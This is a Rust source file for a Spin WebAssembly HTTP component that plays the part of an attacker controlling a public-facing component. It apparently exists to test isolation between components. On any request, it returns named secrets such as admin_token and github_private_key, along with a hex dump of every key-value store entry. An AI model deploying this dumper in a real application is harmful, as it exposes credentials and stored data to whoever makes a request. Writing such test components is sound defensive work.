//! Spin component of an attacker who took over one that faces strangers: it answers with every key and value of the store,
//! in hexadecimal digits, and with the variables that it is given.

#![cfg(target_family = "wasm")]
// The macro's exported function is unsafe by nature; nothing else here is.
#![allow(unsafe_code)]

use std::collections::BTreeMap;

use gha_slurm_protocol::hex::hex;
use spin_sdk::http::{IncomingRequest, ResponseOutparam};
use spin_sdk::http_component;
use spin_sdk::key_value::Store;
use spin_sdk::variables;
use spin_sdk::wit::wasi::http0_2_0::types::{Fields, OutgoingBody, OutgoingResponse};

/// What the application has, and another component may have.
const VARIABLES: [&str; 8] = [
    "admin_token",
    "gateway_secret",
    "github_private_key",
    "github_webhook_secret",
    "gateway_url",
    "profiles",
    "public_url",
    "store_key",
];
/// The most that `blocking-write-and-flush` takes at once.
const WRITE_CHUNK: usize = 4096;

fn dump() -> serde_json::Value {
    let given = VARIABLES.iter().filter_map(|name| Some((*name, variables::get(name).ok()?)));
    let mut values = BTreeMap::new();
    let mut problem = None;
    match Store::open_default().and_then(|store| Ok((store.get_keys()?, store))) {
        Ok((keys, store)) => {
            for key in keys {
                // A counter is no value on every backend.
                if let Ok(Some(value)) = store.get(&key) {
                    values.insert(key, hex(value));
                }
            }
        }
        Err(error) => problem = Some(error.to_string()),
    }
    serde_json::json!({"variables": given.collect::<BTreeMap<_, _>>(), "values": values, "problem": problem})
}

#[http_component]
fn dumper(_request: IncomingRequest, out: ResponseOutparam) {
    let text = dump().to_string();
    let headers = Fields::new();
    let _ = headers.set("content-length", &[text.len().to_string().into_bytes()]);
    let response = OutgoingResponse::new(headers);
    let body = response.body();
    out.set(response);
    if let Ok(body) = body
        && let Ok(stream) = body.write()
        && text.as_bytes().chunks(WRITE_CHUNK).all(|chunk| stream.blocking_write_and_flush(chunk).is_ok())
    {
        drop(stream);
        let _ = OutgoingBody::finish(body, None);
    }
}
